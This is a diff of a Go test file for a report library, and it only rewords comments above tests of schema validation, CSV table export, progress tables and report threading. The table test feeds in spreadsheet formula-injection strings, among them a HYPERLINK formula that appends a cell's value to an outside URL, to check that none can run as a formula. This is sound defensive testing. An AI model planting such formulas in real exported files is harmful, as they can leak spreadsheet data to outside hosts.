@@ -27,7 +27,7 @@ func library(t *testing.T) *report.Library {
 	return lib
 }
 
-// file makes a library's files and gives one.
+// file returns one of a library's files.
 func file(t *testing.T, lib *report.Library, address, name string) []byte {
 	t.Helper()
 	files, err := Files(lib, address)
@@ -43,8 +43,7 @@ func file(t *testing.T, lib *report.Library, address, name string) []byte {
 	return nil
 }
 
-// The data is right by the schema that is published with it, and the schema
-// tells what is not.
+// The data matches its published schema, and the schema rejects wrong data.
 func TestSchema(t *testing.T) {
 	compiler := jsonschema.NewCompiler()
 	compiler.AssertFormat()
@@ -85,8 +84,7 @@ func TestSchema(t *testing.T) {
 	}
 }
 
-// Whatever an editor writes comes out of the tables as it was, and nothing
-// that a spreadsheet could run.
+// Any text survives in the tables, and none can run as a formula.
 func TestTables(t *testing.T) {
 	for _, text := range []string{
 		"plain", `with "quotes", commas; and more`, "two\nlines", `=HYPERLINK("https://example.org/?"&A1,"Open")`, "+44 113", "-1", "@SUM(A1)", "\tindented", "'quoted'", "’tis — “so”",
@@ -114,8 +112,8 @@ func TestTables(t *testing.T) {
 	}
 }
 
-// The table of all progress has a row for each item and each body that it asks,
-// with what that body itself said last, and none for a report that is a draft.
+// The table of progress has a row for each item and body asked, with the latest that
+// this body said, and none for drafts.
 func TestProgressTable(t *testing.T) {
 	lib := library(t)
 	lib.Reports[0].Recommendations[0].Requests[0].Due = report.Date{Time: lib.AsAt.AddDate(0, 0, -3)}
@@ -155,8 +153,8 @@ func TestProgressTable(t *testing.T) {
 	}
 }
 
-// twoYears gives the source of two reports: the second asks again what the first
-// did, but for one item each that is closed and that has another name.
+// twoYears returns the source of two reports. The second asks again what the first
+// did, except for two items with other names.
 func twoYears(t *testing.T) fstest.MapFS {
 	t.Helper()
 	files := testkit.MemorySource()
@@ -176,8 +174,8 @@ func twoYears(t *testing.T) fstest.MapFS {
 	return files
 }
 
-// Items of two years name each other; only where there is a next report is one
-// closed.
+// Items of two years refer to each other. An item is closed only if there is a next
+// report.
 func TestThreads(t *testing.T) {
 	files := twoYears(t)
 	asked := files["data/2014/challenges.toml"].Data
@@ -208,7 +206,7 @@ func TestThreads(t *testing.T) {
 	}
 }
 
-// Files are in their reports' folders. Drafts have none, shown or not.
+// Files are in their reports' folders. Drafts have none, whether shown or not.
 func TestFiles(t *testing.T) {
 	source := twoYears(t)
 	summary := source["content/2015/_index.md"].Data
